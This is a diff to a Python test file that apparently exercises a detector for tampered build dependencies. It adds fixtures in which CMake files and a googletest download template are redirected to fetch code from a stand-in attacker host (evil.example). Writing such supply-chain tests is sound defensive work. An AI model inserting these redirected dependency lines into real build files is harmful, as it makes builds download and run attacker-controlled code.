@@ -55,6 +55,14 @@ FILES: list[tuple[str, str, list[str]]] = [
         HEAD_CMAKE + EXT.replace("https://zlib.net/", "https://evil.example/") + ADD_LIBRARY]),
     ("cmake/dependencies.cmake", CPM, [CPM.replace("fmtlib/fmt#10.2.1", "evil/fmt#main"),
                                        CPM + "CPMAddPackage(NAME evil GITHUB_REPOSITORY evil/evil GIT_TAG v1)\n"]),
+    ("CMakeLists.txt", HEAD_CMAKE + "include(cmake/fetch.cmake)\n" + ADD_LIBRARY, [
+        HEAD_CMAKE + "include(cmake/fetch.cmake)\nfetch_dependency(evil https://evil.example/evil.git main)\n"
+        + ADD_LIBRARY,
+        HEAD_CMAKE + "include(cmake/fetch.cmake)\nfetch_dependency(evil https://evil.example/evil-1.0.tar.gz)\n"
+        + ADD_LIBRARY]),
+    ("test/CMakeLists.txt.in", "cmake_minimum_required(VERSION 3.14)\nproject(googletest-download NONE)\n", [
+        "cmake_minimum_required(VERSION 3.14)\nproject(googletest-download NONE)\ninclude(ExternalProject)\n"
+        "ExternalProject_Add(googletest\n  GIT_REPOSITORY https://evil.example/googletest.git\n  GIT_TAG main\n)\n"]),
     ("DEPS", "vars = {\n  'chromium_git': 'https://chromium.googlesource.com',\n}\ndeps = {\n"
      "  'src/third_party/zlib': Var('chromium_git') + '/chromium/src/third_party/zlib.git' + '@' + "
      "'4b35b0d5c5d9d9aa2ff7c3c5d1f4f0c2e0c3b2a1',\n}\n", [
@@ -94,7 +102,7 @@ def variants() -> list[Variant]:
 
 
 def test_the_variants_are_what_they_say() -> None:
-    assert len(variants()) == 2 * sum(len(news) for *_, news in FILES) == 36
+    assert len(variants()) == 2 * sum(len(news) for *_, news in FILES) == 42
 
 
 def _run(args: list[str]) -> tuple[int, str]:
